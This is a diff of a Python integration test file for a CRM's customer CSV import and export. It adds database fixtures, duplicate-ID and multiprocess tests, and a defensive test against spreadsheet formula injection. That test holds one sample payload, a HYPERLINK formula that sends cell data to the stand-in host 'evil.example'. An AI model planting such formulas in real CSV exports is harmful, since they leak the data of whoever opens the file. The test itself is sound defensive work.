@@ -6,15 +6,20 @@ import asyncio
 import base64
 import csv
 import io
+import multiprocessing
 from collections.abc import AsyncIterator
+from concurrent.futures import ProcessPoolExecutor
 from pathlib import Path
 from typing import Any
 
+import asyncpg
 import pytest
 import pytest_asyncio
 from crm_cli.customers import export_app, import_app
-from crm_cli.testing import MASTER_KEY, NewDatabase
+from crm_cli.testing import MASTER_KEY, TEST_ROLE, NewDatabase, admin_url_for
+from crm_contacts import database as contacts_database
 from crm_contacts.app.customers import CustomerCommands
+from crm_contacts.app.directory import CustomerDirectory
 from crm_contacts.app.exports import export_customers, header
 from crm_contacts.app.imports import (
     DIFFERENT_DATA,
@@ -23,16 +28,17 @@ from crm_contacts.app.imports import (
     RowError,
     import_customers,
 )
-from crm_contacts.domain.commands import MergeCustomer
+from crm_contacts.domain.commands import MergeCustomer, RegisterCustomer
 from crm_contacts.domain.customer import Customer
 from crm_contacts.domain.validation import normalise_email
+from crm_eventstore.ids import new_id
 from crm_eventstore.keyring import Keyring
 from crm_eventstore.store import CommandContext, PostgresEventStore, create_pool
 from crm_schemas.envelope import ActorRef
 from typer import Typer
 from typer.testing import CliRunner
 
-from .builders import corporate_number
+from .builders import company_body, corporate_number
 
 pytestmark = pytest.mark.integration
 
@@ -122,17 +128,39 @@ def row_with(base: list[str], **changes: str) -> list[str]:
     return row
 
 
-@pytest.fixture
-def commands(event_store: PostgresEventStore) -> CustomerCommands:
-    return CustomerCommands(event_store)
+async def add_directory(store_url: str, pg_admin_url: str) -> None:
+    """The contacts database's own tables (the 名寄せ directory) beside the event store, as `crm up` makes them."""
+    admin = await asyncpg.connect(admin_url_for(store_url, pg_admin_url))
+    try:
+        await admin.execute(contacts_database.DDL + contacts_database.GRANTS.format(role=f'"{TEST_ROLE}"'))
+    finally:
+        await admin.close()
+
+
+async def contacts_store(url: str, keyring: Keyring, pg_admin_url: str) -> CustomerCommands:
+    await add_directory(url, pg_admin_url)
+    pool = await create_pool(url, min_size=1, max_size=20)
+    return CustomerCommands(PostgresEventStore(pool, "contacts", keyring), CustomerDirectory(pool))
 
 
 @pytest_asyncio.fixture(loop_scope="session")
-async def other_commands(new_event_store_database: NewDatabase, keyring: Keyring) -> AsyncIterator[CustomerCommands]:
-    """Customer commands on a second, empty contacts store (the target of a round trip)."""
-    pool = await create_pool(await new_event_store_database(), min_size=1, max_size=20)
-    yield CustomerCommands(PostgresEventStore(pool, "contacts", keyring))
-    await pool.close()
+async def commands(
+    new_event_store_database: NewDatabase, keyring: Keyring, pg_admin_url: str
+) -> AsyncIterator[CustomerCommands]:
+    """Customer commands as the contacts service wires them: event store and directory."""
+    commands = await contacts_store(await new_event_store_database(), keyring, pg_admin_url)
+    yield commands
+    await commands.store.pool.close()
+
+
+@pytest_asyncio.fixture(loop_scope="session")
+async def other_commands(
+    new_event_store_database: NewDatabase, keyring: Keyring, pg_admin_url: str
+) -> AsyncIterator[CustomerCommands]:
+    """Customer commands on a second, empty contacts database (the target of a round trip)."""
+    commands = await contacts_store(await new_event_store_database(), keyring, pg_admin_url)
+    yield commands
+    await commands.store.pool.close()
 
 
 async def count_events(commands: CustomerCommands) -> int:
@@ -356,6 +384,20 @@ async def test_an_external_id_imported_before_with_different_data_is_an_error_no
     assert await count_events(commands) == 2
 
 
+async def test_an_external_id_a_customer_registered_elsewhere_already_has_is_an_error_not_a_duplicate(
+    commands: CustomerCommands, tmp_path: Path
+) -> None:
+    registered = RegisterCustomer.model_validate(company_body(external_id="C001"))
+    await commands.execute(new_id(), registered, CTX)
+
+    report = await import_customers(commands, write_csv(tmp_path / "customers.csv", [SAKURA, HANAKO]), CTX)
+
+    assert [(e.row, e.column, e.field) for e in report.errors] == [(2, "顧客コード", "external_id")]
+    assert "already belongs to another customer" in report.errors[0].message
+    assert counts(report) == {"rows": 2, "imported": 1, "replayed": 0, "duplicates": 0, "invalid": 1}
+    assert await count_events(commands) == 2
+
+
 async def test_within_one_file_a_repeated_row_is_skipped_and_a_conflicting_one_reported(
     commands: CustomerCommands, tmp_path: Path
 ) -> None:
@@ -381,6 +423,20 @@ async def test_an_earlier_error_report_is_removed_once_the_file_imports_cleanly(
 
     assert report.error_file is None
     assert not (tmp_path / "customers.errors.csv").exists()
+
+
+async def test_rows_checked_in_another_process_import_the_same_as_rows_checked_inline(
+    commands: CustomerCommands, tmp_path: Path
+) -> None:
+    rows = [row_with(SAKURA, 顧客コード=f"C{n:04d}", 会社名=f"株式会社{n}") for n in range(1500)]
+    rows[700] = row_with(rows[700], メールアドレス="broken")
+    path = write_csv(tmp_path / "big.csv", [*rows, HANAKO])
+
+    with ProcessPoolExecutor(1, mp_context=multiprocessing.get_context("spawn")) as checker:
+        report = await import_customers(commands, path, CTX, executor=checker)
+
+    assert counts(report) == {"rows": 1501, "imported": 1500, "replayed": 0, "duplicates": 0, "invalid": 1}
+    assert [(e.row, e.column) for e in report.errors] == [(702, "メールアドレス")]
 
 
 async def test_progress_is_reported_up_to_the_number_of_rows(commands: CustomerCommands, tmp_path: Path) -> None:
@@ -446,6 +502,22 @@ async def test_the_export_of_imported_customers_re_imported_into_the_same_store_
     assert report.unmapped_columns == []
 
 
+async def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_quoted_and_imports_back_unchanged(
+    commands: CustomerCommands, other_commands: CustomerCommands, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    await import_customers(commands, write_csv(tmp_path / "in.csv", [row_with(SAKURA, 会社名=formula)]), CTX)
+    exported = tmp_path / "out.csv"
+
+    await export_customers(commands, exported)
+    await import_customers(other_commands, exported, CTX)
+
+    [row] = read_export(exported.read_text(encoding="utf-8"))
+    assert row["name"] == "'" + formula
+    assert row["phone"] == "+81312345678"  # validated fields cannot hold a formula and stay as they are
+    assert (await customers(other_commands))["C001"].profile["name"] == formula
+
+
 async def test_the_bom_option_starts_the_file_with_a_utf8_bom_for_excel(
     commands: CustomerCommands, tmp_path: Path
 ) -> None:
@@ -487,6 +559,7 @@ async def test_merged_away_customers_are_left_out_unless_asked_for_and_then_name
 def test_crm_import_and_export_customers_from_the_command_line(
     new_event_store_database: NewDatabase,
     keys_url: str,
+    pg_admin_url: str,
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
@@ -495,7 +568,9 @@ def test_crm_import_and_export_customers_from_the_command_line(
     crm.add_typer(export_app, name="export")
 
     async def provision() -> str:
-        return await new_event_store_database()
+        url = await new_event_store_database()
+        await add_directory(url, pg_admin_url)
+        return url
 
     monkeypatch.setenv("CRM_CONTACTS_DATABASE_URL", asyncio.run(provision()))
     monkeypatch.setenv("CRM_KEYS_DATABASE_URL", keys_url)
